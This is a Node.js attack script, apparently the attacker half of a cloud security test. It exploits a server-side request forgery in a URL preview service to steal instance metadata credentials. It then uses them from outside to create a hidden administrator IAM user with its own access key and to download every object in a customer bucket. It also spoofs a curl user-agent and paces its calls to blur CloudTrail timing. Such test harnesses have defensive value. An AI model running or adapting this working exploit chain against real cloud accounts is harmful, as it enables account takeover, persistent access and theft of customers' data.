// The attacker. Asks the preview service for the instance metadata service's credentials, reads them from the preview, and
// uses them from here, outside: a new administrator with a key of its own, which then downloads the customers' data.
// Settings in ATTACK (JSON): preview, metadata, role, aws {endpoint, region, bucket}, address, paceMs (between two calls).
// Prints one JSON line per step to stdout. Exits 0 also when nothing came: that is a defended attack.
import { Agent, request } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';
import { AttachUserPolicyCommand, CreateAccessKeyCommand, CreateUserCommand, IAMClient } from '@aws-sdk/client-iam';
import { GetObjectCommand, ListBucketsCommand, ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';

const settings = JSON.parse(process.env.ATTACK ?? '{}');
const agent = new Agent({ localAddress: settings.address });
const newUser = 'svc-backup';

say('began', { attacker: settings.address, metadata: settings.metadata });
const credentials = await stealCredentials();
if (!credentials) say('stopped', 'no credentials came back');
else if (settings.aws) await useFrom(await becomeAdministrator(credentials));
agent.destroy();

async function stealCredentials() {
  const wanted = `${settings.metadata}/latest/meta-data/iam/security-credentials/${settings.role}`;
  const { status, text } = await get(new URL(`/preview?url=${encodeURIComponent(wanted)}`, settings.preview));
  const body = JSON.parse(text);
  say('preview', { status, finding: body.finding ?? body.findingId });
  const field = (name) => new RegExp(`"${name}" ?: ?"([^"]+)"`).exec(body.excerpt ?? '')?.[1];
  const accessKeyId = field('AccessKeyId');
  if (!accessKeyId) return undefined;
  say('loot', { accessKeyId });
  return { accessKeyId, secretAccessKey: field('SecretAccessKey'), sessionToken: field('Token') };
}

async function becomeAdministrator(credentials) {
  await pause();
  const { Arn } = await new STSClient(client(credentials)).send(new GetCallerIdentityCommand({}));
  say('aws', { call: 'GetCallerIdentity', Arn });
  const iam = new IAMClient(client(credentials));
  await pause();
  await iam.send(new CreateUserCommand({ UserName: newUser }));
  const PolicyArn = 'arn:aws:iam::aws:policy/AdministratorAccess';
  await pause();
  await iam.send(new AttachUserPolicyCommand({ UserName: newUser, PolicyArn }));
  await pause();
  const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName: newUser }));
  say('aws', { call: 'CreateUser, AttachUserPolicy, CreateAccessKey', newAccessKeyId: AccessKey.AccessKeyId });
  return { accessKeyId: AccessKey.AccessKeyId, secretAccessKey: AccessKey.SecretAccessKey };
}

async function useFrom(credentials) {
  const s3 = new S3Client({ ...client(credentials), forcePathStyle: true });
  await pause();
  await s3.send(new ListBucketsCommand({}));
  await pause();
  const { Contents = [] } = await s3.send(new ListObjectsV2Command({ Bucket: settings.aws.bucket }));
  await pause();
  for (const { Key } of Contents) {
    const { Body } = await s3.send(new GetObjectCommand({ Bucket: settings.aws.bucket, Key }));
    await Body.transformToByteArray();
  }
  say('aws', { call: 'ListBuckets, ListObjects, GetObject', objects: Contents.length });
}

/** People type slower than CloudTrail's clock ticks, which knows whole seconds only. */
function pause() {
  return delay(settings.paceMs ?? 0);
}

function client(credentials) {
  const { endpoint, region } = settings.aws;
  return { endpoint, region, credentials, requestHandler: { httpAgent: agent } };
}

function get(url) {
  return new Promise((resolve, reject) => {
    const outgoing = request(url, { agent, headers: { 'user-agent': 'curl/8.5.0' } }, (response) => {
      let text = '';
      response.setEncoding('utf8').on('data', (part) => (text += part));
      response.on('end', () => resolve({ status: response.statusCode, text }));
    });
    outgoing.on('error', reject);
    outgoing.end();
  });
}

function say(step, details) {
  console.log(JSON.stringify({ step, details }));
}
